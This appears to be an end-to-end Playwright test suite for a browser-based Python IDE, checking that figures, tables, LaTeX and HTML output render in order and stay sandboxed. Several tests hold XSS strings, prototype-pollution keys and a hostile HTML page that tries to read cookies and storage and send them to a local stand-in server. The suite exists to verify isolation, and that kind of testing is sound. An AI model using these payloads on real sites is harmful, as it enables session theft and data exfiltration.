"""What a run shows, on the page: in order, as well as each can be drawn, and without harm whatever it is."""

import asyncio
import base64
import http.server
import json
import struct
import threading
import zlib
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from typing import Any

import pytest
from playwright.sync_api import Download, Frame, expect
from tests.support.browser import Ide
from tests.support.fake_executor import Play, Stage
from tests.support.servers import served_fake
from tests.support.waiting import wait_until

from snakepen.executor import Stream

pytestmark = [pytest.mark.slow]

OpenIde = Callable[..., Ide]


def png(width: int, height: int) -> str:
    """A grey picture, in base64."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress((b"\0" + b"\x80" * width) * height)
    whole = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return base64.b64encode(whole).decode()


def table(rows: list[dict[str, object]], *fields: tuple[str, str], **more: object) -> dict[str, str]:
    described = [{"name": name, "type": kind} for name, kind in fields]
    resource = {"schema": {"fields": described, "primaryKey": ["index"]}, "data": rows, **more}
    return {
        "application/vnd.dataresource+json": json.dumps(resource),
        "text/html": "<p>another way</p>",
        "text/plain": "a table",
    }


CITIES = table(
    [
        {"index": 0, "city": "Rome", "people": 2800000},
        {"index": 1, "city": "Bern, CH", "people": 140000},
        {"index": 2, "city": "<img src=x onerror=alert(1)>", "people": None},
        {"index": 3, "city": "Oslo", "people": 9},
    ],
    ("index", "integer"),
    ("city", "string"),
    ("people", "integer"),
)


def shows(*bundles: Mapping[str, str]) -> Play:
    async def play(stage: Stage) -> int:
        for bundle in bundles:
            await stage.show(bundle)
        return 0

    return play


@contextmanager
def on_a_stage(ide_at: OpenIde, play: Play) -> Iterator[Ide]:
    """The page, on a server whose one program, `play`, shows what the test has it show."""
    with served_fake({"play": play}) as (api, _):
        yield ide_at(api.url).open()


def results(ide: Ide) -> list[str]:
    return [text.strip() for text in ide.page.locator(".feed > li").all_inner_texts()]


def tab(ide: Ide, name: str) -> Any:
    return ide.page.get_by_role("tab", name=name)


def drawn(ide: Ide) -> Frame:
    """What is in the frame of the only result that has one."""
    expect(ide.page.locator("iframe")).to_be_visible()
    # The element is there before its frame is.
    wait_until(lambda: ide.page.locator("iframe").element_handle().content_frame() is not None)
    frame = ide.page.locator("iframe").element_handle().content_frame()
    assert frame is not None
    return frame


def saved(download: Download) -> bytes:
    return download.path().read_bytes()


def test_all_that_is_shown_stands_in_order_with_what_was_printed_between(ide_at: OpenIde) -> None:
    async def play(stage: Stage) -> int:
        for number in (1, 2, 3):
            await stage.write(Stream.TERMINAL, f"\x1b[31mbefore {number}\x1b[0m\r\n".encode())
            await stage.show({"image/png": png(20 * number, 30), "text/plain": f"Figure {number}: waves."})
        await stage.write(Stream.TERMINAL, b"and a frame\r\n")
        await stage.show(CITIES)
        await stage.write(Stream.TERMINAL, b"the end\r\n")
        return 0

    with on_a_stage(ide_at, play) as ide:
        part = "**/assets/Results-*.js"
        ide.page.route(part, lambda route: route.abort("connectionrefused"))
        ide.run("play")
        ide.says("Finished. 4 results.")
        expect(ide.page.get_by_role("tabpanel", name="Results")).to_be_visible()
        expect(tab(ide, "Results")).to_contain_text("4")
        ide.focus_is("Results")  # it was in the terminal, which is hidden
        expect(ide.page.get_by_role("alert")).to_contain_text("What shows the results could not be loaded")
        ide.page.unroute(part)
        ide.page.get_by_role("button", name="Try again").click()
        ide.focus_is("Results")
        expect(ide.page.locator(".feed > li")).to_have_count(9)
        found = results(ide)
        assert [found[place] for place in (0, 2, 4, 6, 8)] == [
            "before 1",
            "before 2",
            "before 3",
            "and a frame",
            "the end",
        ]
        pictures = ide.page.get_by_role("tabpanel").get_by_role("img")
        assert [picture.get_attribute("alt") for picture in pictures.all()] == [
            f"Figure {n}: waves." for n in (1, 2, 3)
        ]
        widths = "(images) => images.map((image) => image.naturalWidth)"
        wait_until(lambda: pictures.evaluate_all(widths) == [20, 40, 60])
        expect(ide.page.get_by_role("table", name="a table, 4 rows × 2 columns")).to_be_visible()
        tab(ide, "Terminal").click()
        ide.shows("the end")


REAL = """\
import matplotlib.pyplot as plt
import pandas as pd

for number in (1, 2, 3):
    print("before", number)
    plt.plot([1, number, 2])
    plt.title(f"Figure of {number}")
    plt.show()
print("and a frame")
frame = pd.DataFrame({"name": ["b", "a"], "value": [10, 9]})
display(frame)
frame.to_csv("out.csv", index=False)
open("note.txt", "w").write("made")
print("the end")
frame["value"].sum().item()
"""


@pytest.mark.long
def test_a_real_program_with_figures_a_frame_and_files(ide: Ide) -> None:
    ide.run(REAL)
    ide.says("Finished. 5 results, 2 files.")
    expect(ide.page.locator(".feed > li")).to_have_count(10)
    found = results(ide)
    assert [found[place] for place in (0, 2, 4, 6, 8, 9)] == [
        *("before 1", "before 2", "before 3", "and a frame", "the end", "19"),
    ]
    alternatives = [picture.get_attribute("alt") or "" for picture in ide.page.locator(".feed img").all()]
    assert [f"Figure of {n}" in text for n, text in enumerate(alternatives, 1)] == [True, True, True]
    ide.page.get_by_role("columnheader", name="value").get_by_role("button").click()
    expect(ide.page.locator(".feed tbody td:nth-of-type(1)")).to_have_text(["a", "b"])
    tab(ide, "Files").click()
    ide.page.get_by_role("button", name="View out.csv").click()
    expect(ide.page.get_by_role("dialog").get_by_role("cell", name="10")).to_be_visible()


@pytest.mark.long
def test_a_picture_is_seen_in_full_and_saved(ide_at: OpenIde) -> None:
    picture = png(3000, 40)
    with on_a_stage(ide_at, shows({"image/png": picture, "text/plain": "Figure 1: Sales by month."})) as ide:
        ide.run("play")
        ide.page.get_by_role("button", name="Full size").click()
        dialog = ide.page.get_by_role("dialog", name="Figure 1: Sales by month.")
        shown = dialog.get_by_role("img", name="Figure 1: Sales by month.")
        wait_until(lambda: 0 < shown.evaluate("(image) => image.width") < 1280)
        dialog.get_by_role("button", name="Full size").click()
        wait_until(lambda: shown.evaluate("(image) => image.width") == 3000)
        with ide.page.expect_download() as download:
            dialog.get_by_role("button", name="Download").click()
        assert download.value.suggested_filename == "figure-1-sales-by-month.png"
        assert saved(download.value) == base64.b64decode(picture)
        ide.page.keyboard.press("Escape")
        expect(dialog).to_be_hidden()
        ide.focus_is("Full size")


@pytest.mark.long
def test_a_table_is_sorted_and_saved(ide_at: OpenIde) -> None:
    with on_a_stage(ide_at, shows(CITIES)) as ide:
        ide.run("play")
        shown = ide.page.get_by_role("table")
        column = lambda: shown.locator("tbody td:nth-of-type(1)").all_inner_texts()  # noqa: E731
        heading = shown.get_by_role("columnheader", name="people")
        expect(heading).to_have_attribute("aria-sort", "none")
        heading.get_by_role("button").click()
        expect(heading).to_have_attribute("aria-sort", "ascending")
        assert column() == ["Oslo", "Bern, CH", "Rome", "<img src=x onerror=alert(1)>"]
        ide.page.keyboard.press("Enter")  # by keyboard as well
        expect(heading).to_have_attribute("aria-sort", "descending")
        assert column() == ["Rome", "Bern, CH", "Oslo", "<img src=x onerror=alert(1)>"]
        with ide.page.expect_download() as download:
            ide.page.get_by_role("button", name="Save as CSV").click()
        assert download.value.suggested_filename == "result-1.csv"
        assert saved(download.value).decode() == (
            ',city,people\r\n0,Rome,2800000\r\n1,"Bern, CH",140000\r\n3,Oslo,9\r\n2,<img src=x onerror=alert(1)>,\r\n'
        )
        heading.get_by_role("button").click()
        expect(heading).to_have_attribute("aria-sort", "none")
        assert column()[0] == "Rome"
        assert ide.page.locator("td img, th img").count() == 0


# Of each that is there: whether its border, or a drawing's filling, is there and of another colour than the ground.
STANDS_OUT = """(shown) => shown.map((one) => {
  const probe = document.body.appendChild(document.createElement("i"));
  probe.style.color = "Canvas";
  const ground = getComputedStyle(probe).color;
  probe.remove();
  const style = getComputedStyle(one);
  const [isThere, colour] = one.matches("svg")
    ? [true, style.fill]
    : [style.borderBottomStyle === "solid" && style.borderBottomWidth === "1px", style.borderBottomColor];
  return isThere && colour.startsWith("rgb(") && colour !== ground;
})"""


@pytest.mark.long
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_buttons_and_tables_can_be_seen_where_colours_are_forced(ide_at: OpenIde, scheme: str) -> None:
    with served_fake({"play": shows(CITIES, {"image/png": png(9, 9), "text/plain": "a picture"})}) as (api, _):
        ide = ide_at(api.url, forced_colors="active", color_scheme=scheme).open()
        ide.run("play")
        ide.says("Finished. 2 results.")
        edged = (("button.quiet", 3), (".data .scroll", 1), (".data thead th", 3), (".data .sort svg", 3), ("img", 1))
        for what, count in edged:
            found = ide.page.locator("#panel-results").locator(what)
            expect(found).to_have_count(count)
            assert found.evaluate_all(STANDS_OUT) == [True] * count, what


@pytest.mark.long
def test_a_long_table_says_how_much_of_it_is_here(ide_at: OpenIde) -> None:
    rows: list[dict[str, object]] = [{"index": n, "n": n} for n in range(1000)]
    long = table(rows, ("index", "integer"), ("n", "integer"), total_rows=50_000, total_columns=1)
    with on_a_stage(ide_at, shows(long)) as ide:
        ide.run("play")
        extent = "50,000 rows × 1 column, of which the first 1,000 rows are here"
        expect(ide.page.get_by_role("table", name=extent)).to_be_visible()
        expect(ide.page.locator("tbody tr")).to_have_count(100)
        ide.page.get_by_role("button", name="Show all 1,000").click()
        expect(ide.page.locator("tbody tr")).to_have_count(1000)
        ide.page.get_by_role("region", name="a table").focus()
        ide.page.keyboard.press("End")
        expect(ide.page.get_by_role("cell", name="999", exact=True)).to_be_in_viewport()


@pytest.mark.long
def test_latex_is_set_and_stays_as_it_is_where_it_is_none(ide_at: OpenIde) -> None:
    formulas = (
        r"$\displaystyle \frac{\sqrt{\pi}}{2}$",
        r"\notacommand{x}",
        r"\href{javascript:alert(1)}{x}",
        r"\def\a{\a\a}\a",
    )
    with on_a_stage(ide_at, shows(*({"text/latex": one, "text/plain": "plain"} for one in formulas))) as ide:
        ide.run("play")
        expect(ide.page.locator(".formula")).to_have_count(4)
        expect(ide.page.locator(".formula math mfrac msqrt")).to_be_visible()
        for formula in (formulas[1], formulas[3]):
            expect(ide.page.get_by_text(formula, exact=True)).to_be_visible()
        assert ide.page.locator(".formula [href], .formula [style], .formula annotation").count() == 0


@pytest.mark.long
def test_what_is_shown_is_replaced_in_its_place(ide_at: OpenIde) -> None:
    async def play(stage: Stage) -> int:
        await stage.show({"text/plain": "0 %"}, display_id="progress")
        await stage.show({"text/plain": "below"})
        for percent in range(0, 101):
            await stage.show({"text/plain": f"{percent} %"}, update_of="progress")
        return 0

    with on_a_stage(ide_at, play) as ide:
        ide.run("play")
        ide.says("Finished. 2 results.")
        wait_until(lambda: results(ide) == ["100 %", "below"], why=lambda: results(ide))


@pytest.mark.long
def test_all_that_have_one_name_are_what_was_shown_last_under_it(ide_at: OpenIde) -> None:
    async def play(stage: Stage) -> int:
        await stage.show({"text/plain": "1"}, display_id="a")
        await stage.show({"text/plain": "between"})
        await stage.show({"text/plain": "2"}, display_id="a")
        assert await stage.read() == b"g"  # whenever the person has seen it
        await stage.show({"text/plain": "3"}, update_of="a")
        return 0

    with on_a_stage(ide_at, play) as ide:
        ide.run("play")
        wait_until(lambda: results(ide) == ["2", "between", "2"], why=lambda: results(ide))
        tab(ide, "Terminal").click()
        ide.page.locator(".xterm-screen").click()
        ide.page.keyboard.type("g")
        ide.says("Finished. 3 results.")
        wait_until(lambda: results(ide) == ["3", "between", "3"], why=lambda: results(ide))


@pytest.mark.long
def test_results_come_forward_once_and_the_terminal_when_it_asks(ide_at: OpenIde) -> None:
    async def play(stage: Stage) -> int:
        await stage.show({"text/plain": "first"})
        assert await stage.read() == b"g"  # whenever the person has seen it
        await stage.ask("Name? ")
        assert await stage.read() == b"n"
        await stage.show({"text/plain": "second"})
        await stage.write(Stream.TERMINAL, b"go on\r\n")
        assert await stage.read() == b"e"
        return 0

    with on_a_stage(ide_at, play) as ide:
        ide.run("play")
        expect(ide.page.get_by_role("tabpanel", name="Results")).to_be_visible()
        ide.focus_is("Results")
        tab(ide, "Terminal").click()
        ide.page.locator(".xterm-screen").click()
        ide.page.keyboard.type("g")
        ide.says("Waiting for input: Name?")
        ide.page.keyboard.type("n")
        ide.shows("go on")
        expect(tab(ide, "Results")).to_contain_text("2")
        expect(ide.page.get_by_role("tabpanel", name="Terminal")).to_be_visible()  # chosen, so it stays
        ide.page.keyboard.type("e")
        ide.says("Finished.")
        expect(ide.page.get_by_role("tabpanel", name="Terminal")).to_be_visible()


@pytest.mark.long
def test_the_terminal_comes_back_with_the_focus_when_it_asks(ide_at: OpenIde) -> None:
    seen = threading.Event()

    async def play(stage: Stage) -> int:
        await stage.show({"text/plain": "first"})
        await asyncio.to_thread(seen.wait, 60)
        await stage.ask("Name? ")
        return 0 if await stage.read() == b"n" else 1

    with on_a_stage(ide_at, play) as ide:
        ide.run("play")
        ide.focus_is("Results")
        seen.set()
        ide.says("Waiting for input: Name?")
        ide.focus_is("Terminal.")
        ide.page.keyboard.type("n")
        ide.says("Finished. 1 result.")


@pytest.mark.long
def test_the_next_run_has_the_focus_though_results_hid_its_terminal(ide: Ide) -> None:
    ide.run("6 * 7")
    ide.says("Finished. 1 result.")
    ide.run("print('Hello', input())")
    ide.focus_is("Terminal.")
    ide.page.keyboard.type("Ada\n")
    ide.shows("Hello Ada")


@pytest.mark.long
def test_a_program_that_shows_and_asks_at_once_is_answered_first(ide_at: OpenIde) -> None:
    async def play(stage: Stage) -> int:
        await stage.show({"text/plain": "first"})
        await stage.ask("Name? ")
        return 0 if await stage.read() == b"n" else 1

    with on_a_stage(ide_at, play) as ide:
        ide.run("play")
        ide.says("Waiting for input: Name?")
        ide.focus_is("Terminal.")
        ide.page.keyboard.type("n")
        ide.says("Finished. 1 result.")
        expect(ide.page.get_by_role("tabpanel", name="Results")).to_be_visible()


@pytest.mark.long
def test_html_is_drawn_in_a_frame_of_its_own_size(ide_in_whole_browser: OpenIde) -> None:
    html = (
        "<div style='height: 300px' onclick='this.textContent = made(1)'>tall</div>"
        "<script>function made(n) { return `by ${n}` }</script><script>document.body.append(made('script'))</script>"
    )
    with on_a_stage(ide_in_whole_browser, shows({"text/html": html, "text/plain": "p"})) as ide:
        ide.run("play")
        frame = drawn(ide)
        expect(frame.get_by_text("by script")).to_be_visible()
        frame.get_by_text("tall").click()
        expect(frame.get_by_text("by 1")).to_be_visible()
        wait_until(lambda: 320 < (ide.page.locator("iframe").bounding_box() or {"height": 0})["height"] < 400)
        assert ide.page.locator("iframe").get_attribute("title") == "Result 1, drawn by the program"
        assert frame.evaluate("() => self.origin") == "null"
        # The browser says of each handler in an attribute that it did not take it; the frame has, by its own means.
        refused_and_nothing_else(ide)


# What a program's HTML would do if it could. Each attempt that comes to something writes down what.
HOSTILE = """
<base href="ELSEWHERE/base/">
<link rel="stylesheet" href="ELSEWHERE/style.css"><link rel="prefetch" href="ELSEWHERE/prefetch">
<link rel="preconnect" href="ELSEWHERE"><link rel="dns-prefetch" href="ELSEWHERE">
<img src="ELSEWHERE/image.png"><iframe src="ELSEWHERE/frame"></iframe><object data="ELSEWHERE/object"></object>
<video src="ELSEWHERE/video"></video><script src="ELSEWHERE/script.js"></script>
<form id="form" action="ELSEWHERE/form" method="post" target="_top"><input name="a" value="b"></form>
<a id="top" href="ELSEWHERE/link-top" target="_top">x</a><a id="blank" href="ELSEWHERE/link-blank" target="_blank">x</a>
<a id="js" href="javascript:found.push('javascript link')" target="_parent">x</a>
<a id="download" href="data:text/plain,x" download="evil.exe">x</a>
<script>
window.found = [];
const attempt = (what, how) => {
  try { Promise.resolve(how()).then((got) => found.push([what, String(got)]), () => {}); } catch { }
};
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.getItem("snakepen.name"));
attempt("session", () => sessionStorage.length);
attempt("database", () => new Promise((done, fail) => {
  const request = indexedDB.open("snakepen"); request.onsuccess = () => done("open"); request.onerror = fail; }));
attempt("caches", () => caches.keys());
attempt("worker", () => navigator.serviceWorker.getRegistrations());
attempt("page", () => parent.document.title);
attempt("top", () => top.document.title);
attempt("opener", () => opener.document.title);
attempt("page's frame", () => frameElement.id);
attempt("fetch", () => fetch("ELSEWHERE/fetch", {mode: "no-cors"}));
attempt("fetch home", () => fetch("/api/execute"));
attempt("beacon", () => { if (navigator.sendBeacon("ELSEWHERE/beacon")) throw 0; return "sent"; });
attempt("socket", () => new Promise((done, fail) => {
  const socket = new WebSocket("ELSEWHERE/socket".replace("http", "ws")); socket.onopen = done; socket.onerror = fail; }));
attempt("events", () => new Promise((done, fail) => {
  const events = new EventSource("ELSEWHERE/events"); events.onopen = done; events.onerror = fail; }));
attempt("import", () => import("ELSEWHERE/module.js"));
attempt("blob worker", () => new Promise((done, fail) => {
  const worker = new Worker(URL.createObjectURL(new Blob(["fetch('ELSEWHERE/worker')"]))); worker.onerror = fail; }));
attempt("nested", () => new Promise((done) => {
  const nested = document.createElement("iframe"); nested.srcdoc = "<script>new RTCPeerConnection(); parent.postMessage('nested', '*')<\\/script>";
  addEventListener("message", done); document.body.append(nested); }));
attempt("peer", () => new RTCPeerConnection());
attempt("nested peer", () => { const nested = document.createElement("iframe"); document.body.append(nested);
  return new nested.contentWindow.RTCPeerConnection(); });
attempt("nested script", () => new Promise((done) => { const nested = document.createElement("iframe");
  nested.src = "javascript:parent.postMessage(1, '*')"; addEventListener("message", done); document.body.append(nested); }));
attempt("window", () => { const opened = open("ELSEWHERE/window"); if (opened === null) throw 0; return "opened"; });
attempt("alert", () => { alert("hello"); throw 0; });
attempt("top navigation", () => { top.location = "ELSEWHERE/top"; throw 0; });
attempt("parent navigation", () => { parent.location.replace("ELSEWHERE/parent"); throw 0; });
for (const id of ["top", "blank", "js", "download"]) attempt(id, () => { document.getElementById(id).click(); throw 0; });
attempt("form", () => { document.getElementById("form").submit(); throw 0; });
attempt("spoof", () => {
  for (const said of [{height: 1e9}, {height: NaN}, {ready: true}, {html: "<b>"}, {kind: "run"}, null, "x", {type: "stop"}])
    parent.postMessage(said, "*");
  throw 0;
});
document.title = "done";
</script>
"""
LEAVING = (
    "<script>location = 'ELSEWHERE/location'</script>",
    "<script>location.replace('ELSEWHERE/replaced?' + document.body.innerText)</script>",
    '<meta http-equiv="refresh" content="0; url=ELSEWHERE/meta">',
    "<a id=a href='ELSEWHERE/link'>x</a><script>document.getElementById('a').click()</script>",
    "<form id=f action='ELSEWHERE/form'></form><script>document.getElementById('f').submit()</script>",
    "<script>location = '/ide'</script>",
    "<script>location = 'javascript:parent.document.title'</script>",
    "<script>location = 'data:text/html,<script>parent.document.title=1<' + '/script>'</script>",
)


@contextmanager
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another server: its address, and all that it has been asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_GET  # noqa: N815  -- as http.server calls it

        def log_message(self, format: str, *args: object) -> None:
            """Nothing: `asked` has it."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}", asked
        finally:
            server.shutdown()
            thread.join()


def test_hostile_html_reaches_nothing(ide_in_whole_browser: OpenIde) -> None:
    with (
        elsewhere() as (address, asked),
        on_a_stage(ide_in_whole_browser, shows({"text/html": HOSTILE.replace("ELSEWHERE", address)})) as ide,
    ):
        opened: list[str] = []
        ide.page.context.on("page", lambda page: opened.append(page.url))
        ide.page.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
        ide.page.on("download", lambda download: opened.append(download.suggested_filename))
        ide.page.context.add_cookies([{"name": "canary", "value": "secret", "url": ide.url}])
        address_before = ide.page.url
        ide.run("play")
        ide.says("Finished.")
        frame = drawn(ide)
        wait_until(lambda: frame.evaluate("() => document.title") == "done")
        # Everything that could still be on its way comes before the end of a request that is asked for now.
        ide.page.evaluate("() => fetch('/api/execute')")
        ide.page.wait_for_timeout(500)
        assert frame.evaluate("() => found") == []
        assert (asked, opened, ide.page.url) == ([], [], address_before)
        box = ide.page.locator("iframe").bounding_box()
        assert box is not None
        assert box["height"] <= 722
        assert ide.page.evaluate("() => [document.cookie, localStorage.getItem('snakepen.name')]") == [
            "canary=secret",
            "main.py",
        ]
        ide.page.get_by_role("button", name="Copy output").click()  # the page is awake
        refused_and_nothing_else(ide)


def refused_and_nothing_else(ide: Ide) -> None:
    """The browser writes down each thing that it did not do."""
    words = (
        "Content Security Policy",
        "andboxed",
        "locked",
        "SecurityError",
        "Ignored call to 'alert()'",
        "Download is disallowed",
        "asked elsewhere",
        "cross-origin frame",
        "navigation",
    )
    assert [one for one in ide.complaints if not any(word in one for word in words)] == []
    ide.complaints.clear()


def test_html_that_leaves_its_frame_gets_nowhere(ide_in_whole_browser: OpenIde) -> None:
    with elsewhere() as (address, asked):
        bundles = [{"text/html": one.replace("ELSEWHERE", address)} for one in LEAVING]
        with on_a_stage(ide_in_whole_browser, shows(*bundles, {"text/plain": "last"})) as ide:
            ide.run("play")
            ide.says(f"Finished. {len(LEAVING) + 1} results.")
            expect(ide.page.locator("iframe")).to_have_count(len(LEAVING))
            for frame in ide.page.locator("iframe").all():
                frame.scroll_into_view_if_needed()
            ide.page.wait_for_timeout(1000)
            inside = [frame.url for frame in ide.page.frames[1:]]
            assert [url for url in inside if address in url] == []
            assert (asked, ide.page.url, ide.page.title()) == ([], f"{ide.url}/ide", "Snakepen")
            ide.page.get_by_role("tab", name="Terminal").click()
            refused_and_nothing_else(ide)


XSS = "<img src=x onerror=\"document.title='XSS'\"><script>document.title='XSS'</script><a href='javascript:alert(1)'>x</a>"
DRAWING = """\
<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="document.title='XSS'">
<script>document.title='XSS'</script><image href="/api/execute"/><a href="javascript:alert(1)"><rect width="40" height="40"/></a>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="document.title='XSS'"/></body></foreignObject>
</svg>"""
BREAKOUT = f"</pre></script></textarea></title>\"'>{XSS}"


def test_nothing_that_is_shown_becomes_a_part_of_the_page(ide_in_whole_browser: OpenIde) -> None:
    hostile = [
        {"text/plain": BREAKOUT},
        {"text/markdown": f"[x](javascript:alert(1)) {BREAKOUT}"},
        {"application/json": json.dumps({BREAKOUT: BREAKOUT})},
        {"text/latex": BREAKOUT},
        {"image/png": png(4, 4), "text/plain": BREAKOUT},
        {"image/svg+xml": DRAWING, "text/plain": "drawing"},
        {"image/png": base64.b64encode(BREAKOUT.encode()).decode(), "text/plain": "no picture"},
        {"image/svg+xml": f"no picture {BREAKOUT}", "text/plain": "no drawing"},
        {"application/vnd.plotly.v1+json": "{}", "text/plain": BREAKOUT},
        table([{"index": BREAKOUT, BREAKOUT: BREAKOUT}], ("index", "string"), (BREAKOUT, "string")),
        table([{"__proto__": {"polluted": 1}, "constructor": 5}], ("__proto__", "any"), ("constructor", "any")),
    ]  # fmt: skip

    async def play(stage: Stage) -> int:
        await stage.write(
            Stream.TERMINAL, f"{BREAKOUT}\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\\r\n".encode()
        )
        for bundle in hostile:
            await stage.show(bundle)
        return 0

    with on_a_stage(ide_in_whole_browser, play) as ide:
        ide.run("play")
        ide.says("Finished. 11 results.")
        expect(ide.page.get_by_text("no drawing")).to_be_visible()
        expect(ide.page.get_by_text("no picture", exact=True)).to_be_visible()
        panel = ide.page.locator("#panel-results")
        assert panel.locator("script, a, [onerror], [onload], [href], [style]:not(iframe), svg script").count() == 0
        addresses = [image.get_attribute("src") or "" for image in panel.locator("img").all()]
        assert len(addresses) == 2
        assert all(one.startswith(("data:image/png;base64,", "data:image/svg+xml;charset=utf-8,")) for one in addresses)
        assert ide.page.evaluate("() => [document.title, ({}).polluted]") == ["Snakepen", None]


@pytest.mark.long
def test_more_than_a_page_can_show_is_left_out_and_counted(ide_at: OpenIde) -> None:
    with on_a_stage(ide_at, shows(*({"text/plain": str(number)} for number in range(230)))) as ide:
        ide.run("play")
        ide.says("Finished. 200 results.")
        expect(ide.page.get_by_text("30 more results not kept")).to_be_visible()
        expect(ide.page.locator(".feed > li")).to_have_count(200)
